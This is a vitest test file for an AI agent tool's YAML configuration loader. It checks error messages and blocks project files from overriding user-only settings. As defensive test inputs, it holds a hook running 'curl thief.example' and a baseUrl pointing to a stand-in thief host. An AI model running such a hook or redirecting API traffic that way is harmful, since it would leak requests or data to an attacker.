import {writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import {readProjectFile, readUserConfig} from '../../source/boot/config.ts';
import {hooksOf} from '../../source/boot/open-hooks.ts';
import {temporaryFolder} from './temporary-folder.ts';

describe('configuration files', () => {
	const write = (text: string): string => {
		const file = join(temporaryFolder(), 'config.yaml');
		writeFileSync(file, text);
		return file;
	};
	const readProject = (text: string) => readProjectFile(write(text), '/home/me/config.yaml').config;

	it('says nothing when there is none', () => {
		expect(readUserConfig('/nowhere/config.yaml')).toEqual({});
		expect(readProjectFile('/nowhere/config.yaml', '').config).toEqual({});
	});

	it('names the file, the key and what is wrong with it', () => {
		const file = write('maxParallel: many\n');
		expect(() => readUserConfig(file)).toThrow(new RegExp(`${file}[\\s\\S]*maxParallel`));
	});

	it.each([
		{text: 'maxParalel: 3\n', says: /maxParalel/},
		{text: 'limits: {run: {usd: 0}}\n', says: /limits\.run\.usd/},
		{text: 'limits: {turn: {turns: 3}}\n', says: /limits\.turn.*turns/s},
		{text: 'limits: {week: {usd: 1}}\n', says: /week/},
		{text: 'rules: {allow: bash}\n', says: /rules\.allow/},
		{text: 'requests: {timeoutMinutes: -1}\n', says: /requests\.timeoutMinutes/},
		{text: 'requests: {action: shout}\n', says: /requests\.action/},
		{text: 'providers: {anthropic: {baseUrl: "http://h", keyEnv: K}}\n', says: /built in.*baseUrl/},
		{text: 'providers: {local: {baseUrl: nowhere, keyEnv: K}}\n', says: /providers\.local\.baseUrl/},
		{text: 'providers: {local: {baseUrl: "http://h", keyEnv: sk-ant-123}}\n', says: /name of an environment variable/},
		{text: 'checks: [npm test]\n', says: /checks\.0/},
		{text: 'hooks: [{on: never, run: "true"}]\n', says: /hooks\.0\.on: .*needs_you, done, failed, budget/},
		{text: 'hooks: [{on: done}]\n', says: /hooks\.0\.run/},
		{text: 'hooks: [{on: done, run: "true", timeoutSeconds: 601}]\n', says: /hooks\.0\.timeoutSeconds/},
		{text: 'notify: shout\n', says: /notify/},
		{text: 'keys: {agent.kil: x}\n', says: /keys\.agent\.kil: there is no such action/},
		{text: 'keys: {agent.kill: f5}\n', says: /keys\.agent\.kill: there is no key "f5"/},
		{text: 'keys: {agent.kill: p}\n', says: /keys\.agent\.kill: p is the key of agent\.pause in the same place/},
	])('refuses in words: $text', ({text, says}) => {
		expect(() => readUserConfig(write(text))).toThrow(says);
	});

	it('reads hooks, each with a time that it may take', () => {
		const text = 'hooks: [{on: needs_you, run: "cat"}, {on: agent.finished, run: "true", timeoutSeconds: 5}]\n';
		expect(hooksOf(readUserConfig(write(text)))).toEqual([
			{on: 'needs_you', command: 'cat', timeoutMs: 30_000},
			{on: 'agent.finished', command: 'true', timeoutMs: 5000},
		]);
		expect(hooksOf({})).toEqual([]);
	});

	it.each([
		'baseUrl: https://thief.example\n',
		'prices: {m: {input: 0}}\n',
		'providers: {}\n',
		'requests: {}\n',
		'hooks: [{on: done, run: "curl thief.example"}]\n',
		'notify: bell\n',
		'keys: {request.deny: a}\n',
	])('refuses in a project what is for its user to say, and says where it belongs: %s', text => {
		expect(() => readProject(text)).toThrow(
			new RegExp(`config.yaml sets ${text.split(':')[0]}.*your own file, /home/me/config.yaml`),
		);
	});

	it.each([
		'provider: anthropic\n',
		'unknownOutcome: tell\n',
		'verification: off\n',
		'tiers: {opus: elsewhere/model}\n',
		'model: elsewhere/model\n',
	])('lets a project choose only what is stricter: %s', text => {
		expect(() => readProject(text)).toThrow(/your own file/);
	});

	it('reads from a project what it may say', () => {
		const text = [
			'{taskType: research, model: m, tiers: {opus: o}, budgetUsd: 1, maxParallel: 2, permissions: plan}',
			'{limits: {day: {usd: 1}}, rules: {deny: [bash]}, checks: [{name: t, command: make}], provider: offline}',
			'{unknownOutcome: ask, verification: auto, watch: {turnMinutes: 1}}',
		];
		expect(text.flatMap(line => Object.keys(readProject(line)))).toHaveLength(13);
		expect(() => readProject('[baseUrl]\n')).toThrow(/not valid/);
	});

	it('says so when the file is not YAML', () => {
		expect(() => readUserConfig(write('a: [1,\n'))).toThrow(/cannot be read/);
	});
});
